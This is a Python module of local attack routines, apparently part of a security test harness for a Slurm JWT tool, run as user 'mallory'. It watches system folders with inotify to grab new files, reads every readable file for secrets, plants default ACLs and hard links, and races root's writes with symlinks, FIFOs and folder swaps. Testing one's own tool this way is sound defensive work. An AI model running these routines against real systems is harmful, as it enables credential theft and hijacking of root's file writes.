# Copyright (c) 2026, hpc.slurm_jwt contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks that read files at once when they appear, and that make root write to wrong files. See attacker.py."""

from __future__ import annotations

import contextlib
import ctypes
import itertools
import os
import pwd
import stat
import struct
from typing import Any, Iterator

from attacker import LIMIT, Attack, read

# Folders that may contain secrets, without the attacker's home.
ROOTS = ("/tmp", "/var/tmp", "/dev/shm", "/run", "/etc", "/root", "/home", "/srv", "/opt", "/usr/local",
         "/var/lib/slurm", "/var/lib/prometheus", "/var/lib/systemd", "/var/log", "/var/spool")  # fmt: skip
# Files of the kernel and of packages.
SKIPPED = ("/run/udev", "/etc/ssl/certs", "/etc/alternatives", "/run/credentials", "/run/systemd/units")

EVENTS = 0x002 | 0x004 | 0x008 | 0x080 | 0x100  # modified, attributes, closed after writing, moved here, created
HEADER = struct.Struct("iIII")
MAX_OPEN = 300


def folders(root: str) -> Iterator[str]:
    for folder, below, _files in os.walk(root):
        below[:] = [name for name in below if os.path.join(folder, name) not in SKIPPED]
        yield folder


class NewFiles(Attack):
    """Opens every new or changed file at once, and keeps it open to read it later."""

    name = "new files"
    pause = 0.0

    def __init__(self, *args: Any) -> None:
        super().__init__(*args)
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.fd = self.libc.inotify_init1(os.O_CLOEXEC)
        self.paths: dict[int, str] = {}
        self.open: dict[str, int] = {}
        for folder in itertools.chain.from_iterable(map(folders, ROOTS)):
            self.watch(folder)
        # Counts even if no file appears.
        self.ledger.tried(self.name, len(self.paths))

    def watch(self, folder: str) -> None:
        number = self.libc.inotify_add_watch(self.fd, folder.encode(), EVENTS)
        if number >= 0:
            self.paths[number] = folder

    def step(self) -> None:
        data = os.read(self.fd, 65536)
        while data:
            number, _mask, _cookie, length = HEADER.unpack_from(data)
            name = os.fsdecode(data[HEADER.size : HEADER.size + length].rstrip(b"\0"))
            data = data[HEADER.size + length :]
            if name and number in self.paths:
                # It may be removed already.
                with contextlib.suppress(OSError):
                    self.read_new(os.path.join(self.paths[number], name))

    def read_new(self, path: str) -> None:
        self.ledger.tried(self.name)
        for fd in filter(None, (self.open.get(path), self.open_now(path))):
            with contextlib.suppress(OSError):
                self.ledger.inspect(self.name, path, os.pread(fd, LIMIT, 0))

    def open_now(self, path: str) -> int | None:
        """Opens the file, also if another one of that name is open."""
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW | os.O_CLOEXEC)
        except OSError:
            return None
        if stat.S_ISDIR(os.fstat(fd).st_mode):
            os.close(fd)
            for folder in folders(path):
                self.watch(folder)
                # Files that were made before the folder was watched.
                for entry in os.scandir(folder):
                    self.open_now(entry.path)
            return None
        old = self.open.pop(path, None)
        if old is not None:
            os.close(old)
        self.open[path] = fd
        while len(self.open) > MAX_OPEN:
            os.close(self.open.pop(next(iter(self.open))))
        return fd


class ReadableFiles(Attack):
    """Reads every file that this user can read."""

    name = "readable files"
    pause = 4.0

    def __init__(self, *args: Any) -> None:
        super().__init__(*args)
        self.known: set[tuple[int, int, int]] = set()

    def step(self) -> None:
        for folder in itertools.chain.from_iterable(map(folders, ROOTS)):
            for name in os.listdir(folder):
                path = os.path.join(folder, name)
                with contextlib.suppress(OSError):
                    info = os.stat(path)
                    known = (info.st_ino, info.st_mtime_ns, info.st_ctime_ns)
                    if stat.S_ISREG(info.st_mode) and known not in self.known:
                        self.known.add(known)
                        self.ledger.tried(self.name)
                        self.ledger.inspect(self.name, path, read(path) or b"")


def acl(user: int) -> bytes:
    """An access control list that lets another user read and write, as setfacl makes it."""
    entries = ((0x01, 7, -1), (0x02, 7, user), (0x04, 5, -1), (0x10, 7, -1), (0x20, 5, -1))
    return struct.pack("<I", 2) + b"".join(struct.pack("<HHi", *entry) for entry in entries)


class LocalFolders(Attack):
    """The attacker's folders in which root makes files: a default ACL, and hard links to files there."""

    name = "own folders"
    pause = 0.1

    def __init__(self, *args: Any) -> None:
        super().__init__(*args)
        self.uid = pwd.getpwnam("mallory").pw_uid

    def step(self) -> None:
        for folder in self.task.folders:
            self.ledger.tried(self.name)
            with contextlib.suppress(OSError):
                os.setxattr(folder, "system.posix_acl_default", acl(self.uid))
            for entry in os.scandir(folder):
                self.ledger.inspect(self.name, entry.path, read(entry.path) or b"")
                if entry.name.startswith(".slurm_jwt."):
                    # A temporary file: a hard link to it.
                    with contextlib.suppress(OSError):
                        os.link(entry.path, os.path.join(folder, f"kept-{entry.inode()}"))
                        self.ledger.tried("temporary files linked")


class Plants(Attack):
    """Replaces a file that root writes with links, pipes and files of the attacker, one after the other."""

    name = "plants"
    pause = 0.03
    TEXT = b"mallory's own\n"

    def __init__(self, *args: Any) -> None:
        super().__init__(*args)
        self.turn = 0
        self.files: list[tuple[str, int]] = []

    def step(self) -> None:
        self.turn += 1
        for path in self.task.planted:
            self.ledger.tried(self.name)
            with contextlib.suppress(OSError):
                self.keep(path)
                self.plant(path)
        for path, fd in self.files[-40:]:
            if os.pread(fd, LIMIT, 0) != self.TEXT or os.fstat(fd).st_uid != os.getuid():
                self.ledger.gained(self.name, "written through", path)

    def keep(self, path: str) -> None:
        """Reads root's file before it is replaced."""
        if os.lstat(path).st_uid != os.getuid():
            self.ledger.tried("plants replaced")
            self.ledger.inspect(self.name, path, read(path) or b"")

    def plant(self, path: str) -> None:
        kinds = [*self.task.links, None, "file"]
        kind = kinds[self.turn % len(kinds)]
        temporary = f"{path}.{self.turn}"
        if kind is None:
            os.mkfifo(temporary, 0o666)
        elif kind == "file":
            fd = os.open(temporary, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o666)
            os.fchmod(fd, 0o666)
            os.write(fd, self.TEXT)
            self.files.append((path, fd))
            if len(self.files) > 40:
                os.close(self.files.pop(0)[1])
        else:
            with contextlib.suppress(OSError):
                os.link(kind, f"{temporary}.hard")
                self.ledger.gained(self.name, "hard link", kind)
            os.symlink(kind, temporary)
        os.rename(temporary, path)


class FolderLinks(Attack):
    """Replaces a folder in which root writes with a link, and the link with the folder, all the time."""

    name = "folder links"
    pause = 0.1

    def step(self) -> None:
        for folder, target in self.task.swapped.items():
            self.ledger.tried(self.name)
            with contextlib.suppress(OSError):
                if os.path.islink(folder):
                    os.unlink(folder)
                    os.rename(f"{folder}.away", folder)
                else:
                    os.rename(folder, f"{folder}.away")
                    os.symlink(target, folder)
            for name in os.listdir(target):
                self.ledger.gained(self.name, "written elsewhere", os.path.join(target, name))
